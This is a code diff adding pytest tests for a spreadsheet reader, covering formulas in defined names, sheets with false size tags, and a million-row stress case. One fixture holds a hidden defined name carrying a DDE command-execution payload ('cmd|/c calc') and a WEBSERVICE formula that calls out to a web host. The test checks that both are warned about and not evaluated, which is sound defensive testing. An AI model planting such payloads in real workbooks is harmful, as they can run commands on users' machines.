@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import io
 import random
+import re
 import time
 import tracemalloc
 import zipfile
@@ -11,8 +12,10 @@ import zipfile
 import pytest
 
 from planner.cli.main import run
+from planner.domain.fingerprint import fingerprint
 from planner.errors import InputRejectedError
 from planner.reading.workbook import read_plan_input
+from tests.bench.measuring import run_planner
 from tests.published_data import published_data
 from tests.reading_workbooks import part_names, sound_workbook, with_parts
 
@@ -150,3 +153,51 @@ def test_a_bomb_is_refused_without_unpacking_it(tmp_path):
     tracemalloc.stop()
     assert seconds < FAST_SECONDS
     assert peak < 50_000_000
+
+
+def _add_names(body: bytes) -> bytes:
+    names = (
+        b'<definedName name="_xlnm.Print_Area" localSheetId="0">Settings!$A$1:$D$60</definedName>'
+        b'<definedName name="Rate">0.15</definedName>'
+        b"<definedName name=\"Odd sheet\">'a (b)|c'!$A$1</definedName>"
+        b'<definedName name="Fetch">WEBSERVICE(&quot;http://example.org/&quot;&amp;Settings!$B$2)</definedName>'
+        b'<definedName name="&#x8C03;&#x7528;" hidden="1">cmd|\'/c calc\'!A0</definedName>'
+    )
+    return body.replace(b"<definedNames>", b"<definedNames>" + names)
+
+
+def test_a_formula_in_a_defined_name_is_a_warning(tmp_path, capsys):
+    book = with_parts(sound_workbook(), {"xl/workbook.xml": _add_names})
+    code, shown = _check(tmp_path / "plan.xlsx", book, capsys)
+    assert code == 0
+    assert "the defined name 'Fetch' holds a formula. It is not evaluated" in " ".join(shown.split())
+    assert "the defined name '调用' holds a formula" in shown
+    assert shown.count("defined name") == 2
+
+
+def test_a_sheet_that_lies_about_its_size_is_read_whole(tmp_path):
+    lie = lambda body: re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:B2"/>', body)  # noqa: E731
+    sheets = {n: lie for n in part_names(sound_workbook()) if n.startswith("xl/worksheets/sheet")}
+    prints = set()
+    for name, content in (("true", sound_workbook()), ("lie", with_parts(sound_workbook(), sheets))):
+        (tmp_path / name).write_bytes(content)
+        plan_input = read_plan_input(tmp_path / name).plan_input
+        assert plan_input is not None
+        prints.add(fingerprint(plan_input))
+    assert len(prints) == 1
+
+
+@pytest.mark.slow
+def test_a_million_formatted_rows(tmp_path):
+    def grow(body):
+        rows = b"".join(
+            b'<row r="%d"><c r="A%d" s="8"/><c r="B%d" s="9"/></row>' % (i, i, i) for i in range(60, 1048577)
+        )
+        return body.replace(b"</sheetData>", rows + b"</sheetData>")
+
+    path = tmp_path / "plan.xlsx"
+    path.write_bytes(with_parts(sound_workbook(), {"xl/worksheets/sheet4.xml": grow}))
+    measured = run_planner("check", path)
+    assert "0 errors, 0 warnings" in measured.output
+    assert measured.peak_mb < 1_000
+    assert measured.seconds < 300  # 60 s on an idle machine
